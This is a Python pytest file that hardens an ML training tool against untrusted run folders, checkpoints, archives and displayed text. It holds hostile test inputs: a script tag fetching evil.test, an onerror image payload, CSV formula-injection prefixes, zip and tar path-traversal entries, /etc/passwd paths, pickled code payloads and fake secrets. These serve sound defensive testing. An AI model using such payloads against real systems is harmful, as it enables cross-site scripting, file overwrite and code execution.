"""Runs and weights of others: nothing of them is run, nothing leads out of their folder, nothing of this machine gets into ours."""

import csv
import io
import json
import shutil
import subprocess
import tarfile
import zipfile
from pathlib import Path

import pytest
import torch
from omegaconf import OmegaConf

from conftest import Malicious
from sparring import runs, secrecy, tensors
from sparring.comparison import page
from sparring.comparison.records import find
from sparring.comparison.tables import side_by_side
from sparring.data.downloads import CIFAR10, CelebA
from sparring.errors import UserError
from sparring.explain import explain
from sparring.logging import run_id

SMALL = [
    "model=mlp",
    "model.width=8",
    "data.batch_size=16",
    "trainer.accelerator=cpu",
    "evaluation=none",
    "grid.count=4",
]
QUIET = ["logger=none", "trainer.max_steps=2", "kimg=1"]
KEY = "k3y-of-nobody-0123456789"

# What runs in a process of the real command before anything else: every address outside this machine is written down.
WATCH = """
import os, socket
def watch(name):
    real = getattr(socket.socket, name)
    def noted(self, address, *rest):
        if self.family in (socket.AF_INET, socket.AF_INET6) and not str(address[0]).startswith(("127.", "::1", "localhost")):
            open(os.environ["SEEN"], "a").write(f"{address}\\n")
        return real(self, address, *rest)
    setattr(socket.socket, name, noted)
watch("connect"), watch("connect_ex")
real = socket.getaddrinfo
def looked_up(host, *rest, **named):
    if host not in (None, "", "localhost", "127.0.0.1", "::1"):
        open(os.environ["SEEN"], "a").write(f"{host}\\n")
    return real(host, *rest, **named)
socket.getaddrinfo = looked_up
"""


@pytest.fixture(scope="module")
def trained(run, tmp_path_factory):
    """A run of the real command, watched, with W&B offline and secrets in its environment; and where it looked outside."""
    folder = tmp_path_factory.mktemp("trained")
    (folder / "sitecustomize.py").write_text(WATCH)
    for command in ("init -q .", f"remote add origin https://me:{KEY}@host.test/mine"):
        subprocess.run(["git", *command.split()], cwd=folder, check=True)
    secret = {"MY_SERVICE_TOKEN": KEY, "WANDB_API_KEY": KEY * 2, "DB_PASSWORD": f"{KEY}-password"}
    watched = {"PYTHONPATH": str(folder), "SEEN": str(folder / "seen")}
    options = [*SMALL, "trainer.max_steps=2", "kimg=1", "hydra.run.dir=run", "logger.mode=offline"]
    run(*options, cwd=folder, cold=True, **watched, **secret)
    return folder / "run"


@pytest.fixture
def theirs(trained, tmp_path):
    """``theirs({"loss._target_": ...}, [override, ...])``: the run's folder as somebody else may have changed it."""

    def make(changes: dict | None = None, overrides: list | None = None) -> Path:
        shutil.copytree(trained, folder := tmp_path / "theirs", symlinks=True)
        cfg = OmegaConf.load(folder / "config.yaml")
        for key, value in (changes or {}).items():
            OmegaConf.update(cfg, key, value, force_add=True)
        OmegaConf.save(cfg, folder / "config.yaml")
        if overrides is not None:
            typed = json.loads((folder / "overrides.yaml").read_text())
            (folder / "overrides.yaml").write_text(json.dumps([*typed, *overrides]))
        return folder

    return make


def asks(run, folder: Path, *arguments: str, **environment: str):
    return run(*arguments, cwd=folder.parent, check=False, **environment)


# ---- the commands -----------------------------------------------------------------------------------------------

MARK = "import pathlib, sys\nfrom sparring.losses import Hinge\npathlib.Path(__file__).with_suffix('.ran').touch()\nclass Mine(Hinge): pass\n"


@pytest.mark.parametrize(
    "command", ["task=sample run=", "task=evaluate run=", "task=export run=", "task=compare run=", "resume=", "init="]
)
def test_a_strangers_code_is_refused_by_name_before_it_is_imported(command, theirs, run):
    folder = theirs({"loss._target_": "mine.Mine"})
    (folder.parent / "mine.py").write_text(MARK)
    extra = [*SMALL, *QUIET] if command == "init=" else ["evaluation=fast"] if "evaluate" in command else []
    words = [*command.split(), *extra]
    words = [f"{word}theirs" if word in ("run=", "resume=", "init=") else word for word in words]
    done = asks(run, folder, *words, PYTHONPATH=str(folder.parent))
    assert done.returncode == 1 and "loss._target_=mine.Mine: not a class of sparring.losses.*" in done.stderr
    assert "trust=[" in done.stderr and "Traceback" not in done.stderr
    assert not (folder.parent / "mine.ran").exists()


def test_a_person_says_whom_they_trust_and_no_file_says_it_for_them(theirs, run):
    folder = theirs({"loss._target_": "mine.Mine", "trust": ["mine"]}, ["trust=[mine]"])
    (folder.parent / "mine.py").write_text(MARK)
    refused = asks(run, folder, "resume=theirs", "trainer.max_steps=3", PYTHONPATH=str(folder.parent))
    assert refused.returncode == 1 and not (folder.parent / "mine.ran").exists()
    done = asks(run, folder, "resume=theirs", "trainer.max_steps=3", "trust=[mine]", PYTHONPATH=str(folder.parent))
    assert done.returncode == 0, done.stderr
    assert tensors.read_checkpoint(folder / "checkpoints" / "last.ckpt")["global_step"] == 3


def test_a_sweep_goes_on_with_the_classes_that_its_own_command_names(run, tmp_path):
    (tmp_path / "mine.py").write_text(MARK)
    for steps, more in ((2, []), (3, ["sweep.skip_done=true"])):
        options = [
            *SMALL,
            "logger=none",
            "kimg=1",
            f"trainer.max_steps={steps}",
            "loss._target_=mine.Mine",
            "sweep.name=s",
        ]
        run("-m", *options, "seed=1,2", *more, cwd=tmp_path, PYTHONPATH=str(tmp_path))
    for path in sorted((tmp_path / "multirun" / "s").glob("*/checkpoints/last.ckpt")):
        assert tensors.read_checkpoint(path)["global_step"] == 3


def test_a_checkpoint_with_a_payload_is_refused_and_runs_nothing(theirs, run):
    folder = theirs()
    found = torch.load(folder / "checkpoints" / "last.ckpt", weights_only=True)
    for path in (folder / "checkpoints").iterdir():
        torch.save(found | {"state_dict": {"weight": Malicious(folder / "it ran")}}, path)
    for command in ("task=sample run=theirs", "task=export run=theirs", "resume=theirs trainer.max_steps=3"):
        done = asks(run, folder, *command.split())
        assert done.returncode == 1 and "holds code" in done.stderr and "Traceback" not in done.stderr
    assert not (folder / "it ran").exists()


# ---- the folder -------------------------------------------------------------------------------------------------


def test_no_path_leads_out_of_the_folder(theirs, tmp_path):
    folder = theirs({"cache": "/theirs", "data.path": "/theirs/downloads", "evaluation": {"checkpoint": "../../x"}})
    assert (folder / "wandb" / "latest-run").is_symlink()  # W&B's own stay inside
    config = runs.find(str(folder), "run", OmegaConf.create({"trust": [], "cache": str(tmp_path)})).config
    assert (config.cache, config.data.path) == (str(tmp_path), str(tmp_path / "downloads"))
    for name in ("../../outside", "a/b", "/etc/passwd"):
        with pytest.raises(UserError, match="not in"):
            runs.Run(folder).checkpoint(name)
    (tmp_path / "outside.ckpt").write_bytes((folder / "checkpoints" / "last.ckpt").read_bytes())
    with pytest.raises(UserError, match="not in"):
        runs.Run(folder).checkpoint("../../outside")
    (folder / "wandb" / "run_id").write_text("../../x")
    with pytest.raises(UserError, match="not the id of a run"):
        run_id(folder)
    (folder / "samples" / "kimg-9.png").symlink_to(tmp_path / "outside.ckpt")
    with pytest.raises(UserError, match="leads out of the run's folder"):
        runs.find(str(folder), "run")


def test_data_of_a_stored_run_are_not_fetched_into_a_folder_that_it_names(theirs, run, tmp_path):
    place = tmp_path / "mine"
    place.mkdir()
    folder = theirs({"data": {"_target_": "sparring.data.downloads.MNIST", "path": str(place), "split": "train"}})
    done = asks(run, folder, "resume=theirs", "trainer.max_steps=3")
    assert done.returncode == 1 and "nothing is written outside the cache folder" in done.stderr
    assert not list(place.iterdir())


# ---- downloads --------------------------------------------------------------------------------------------------


def test_archives_and_pickles_that_were_placed_by_hand_run_nothing_and_write_nothing_elsewhere(tmp_path, monkeypatch):
    for name in ("http_proxy", "https_proxy"):
        monkeypatch.setenv(name, "http://127.0.0.1:9")
    faces, small = tmp_path / "a" / "celeba", tmp_path / "b" / "c"
    for place in (faces, small / "cifar-10-batches-py"):
        place.mkdir(parents=True)
    with zipfile.ZipFile(faces / "img_align_celeba.zip", "w") as archive:
        for name in ("../../outside.jpg", "/" + str(tmp_path / "outside.jpg"), "img_align_celeba/../../../outside.jpg"):
            archive.writestr(name, b"x")
    with pytest.raises(UserError):
        CelebA(str(faces.parent)).prepare()
    with tarfile.open(small / "cifar-10-python.tar.gz", "w:gz") as archive:
        (member := tarfile.TarInfo("../../outside.jpg")).size = 1
        archive.addfile(member, io.BytesIO(b"x"))
    for number in range(1, 6):
        torch.save(Malicious(tmp_path / "it ran"), small / "cifar-10-batches-py" / f"data_batch_{number}")
    source = CIFAR10(str(small))
    for use in (source.prepare, source.load):
        with pytest.raises((UserError, RuntimeError)):
            use()
    assert (
        not list(tmp_path.glob("outside*"))
        and not list(tmp_path.glob("a/outside*"))
        and not (tmp_path / "it ran").exists()
    )


# ---- what is shown ----------------------------------------------------------------------------------------------

HOSTILE = "<script>fetch('http://evil.test')</script>\"'|![x](http://evil.test/x.png)\x1b[2J\u202e\n=1+1"


@pytest.fixture
def shown(tmp_path):
    """Two runs of a stranger, who wrote this wherever something can be written."""
    for number in range(2):
        folder = tmp_path / f"<img src=x onerror=alert({number})>"
        (folder / "samples").mkdir(parents=True)
        config = {"seed": number, HOSTILE: HOSTILE, "model": {"_x": [HOSTILE, number]}}
        protocol = {"extractor": HOSTILE, "samples": 9, "reals": 9, "reals_available": 9, "real_images": HOSTILE}
        protocol |= {"fakes": HOSTILE, "metrics": {HOSTILE: {HOSTILE: number}}}
        entry = {
            "kimg": 1.0,
            "iteration": 1,
            "scores": {HOSTILE: 1.0, "fd": number},
            "protocol": protocol,
            "lower_is_better": [HOSTILE],
        }
        files = {"config.yaml": config, "overrides.yaml": [HOSTILE, f"=a={number}"], "scores.json": [entry]}
        files["status.json"] = {"state": HOSTILE, "kimg": 1.0, "error": HOSTILE, "device": f"@{HOSTILE}"}
        for name, content in files.items():
            (folder / name).write_text(json.dumps(content))
        (folder / "metrics.csv").write_text('iteration,kimg,"<b>x"\n1,1,2\n2,2,3\n')
        (folder / "samples" / "kimg-1.png").write_bytes(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n")
    return find(str(tmp_path))


def test_the_page_and_the_tables_show_a_strangers_words_and_obey_none(shown, tmp_path):
    path, table = page.write(shown, tmp_path / "out")
    text = path.read_text()
    assert "<script" not in text and "<img src=x" not in text and "<b>x" not in text and "&lt;script&gt;" in text
    assert "default-src &#39;none&#39;" in text or "default-src 'none'" in text
    for told in (table.markdown(), path.with_suffix(".md").read_text(), table.csv()):
        assert not secrecy.DRIVING.search(told.replace("\n", ""))
    for told in (table.markdown(), path.with_suffix(".md").read_text()):
        assert "<" not in told and "](http" not in told
        rows = [line for line in told.splitlines() if line.startswith("|")]
        assert len({line.count("|") for line in rows}) == 1
    cells = [cell for row in csv.reader(io.StringIO(side_by_side(shown).csv())) for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


# ---- secrets and the network ------------------------------------------------------------------------------------


def test_no_file_of_a_run_holds_a_secret_of_the_environment_or_of_a_git_remote(trained):
    files = [path for path in trained.rglob("*") if path.is_file()]
    assert any(path.suffix == ".wandb" for path in files)
    for path in files:
        assert KEY.encode() not in path.read_bytes() and b"host.test" not in path.read_bytes(), path


def test_the_default_run_asks_nothing_of_the_network(trained):
    assert not (trained.parent / "seen").exists(), (trained.parent / "seen").read_text()


def test_a_secret_is_refused_in_what_is_typed_and_composed_and_taken_out_of_what_is_said(run, tmp_path, monkeypatch):
    typed = run(*SMALL, *QUIET, f"logger.name={KEY}", cwd=tmp_path, check=False, A_SECRET=KEY)
    composed = run(
        *SMALL, *QUIET, "logger=wandb", "logger.name=${oc.env:A_SECRET}", cwd=tmp_path, check=False, A_SECRET=KEY
    )
    for done in (typed, composed):
        assert done.returncode == 1 and "logger.name: holds the value of A_SECRET" in done.stderr
        assert KEY not in done.stdout + done.stderr
    assert not any(KEY in path.read_text() for path in tmp_path.rglob("*.*") if path.is_file())
    monkeypatch.setenv("A_SECRET", KEY)
    said = explain(UserError(f"no answer from https://me:pass@host/{KEY}\x1b[2J"))
    assert said == "no answer from https://host/<A_SECRET>\\x1b[2J"
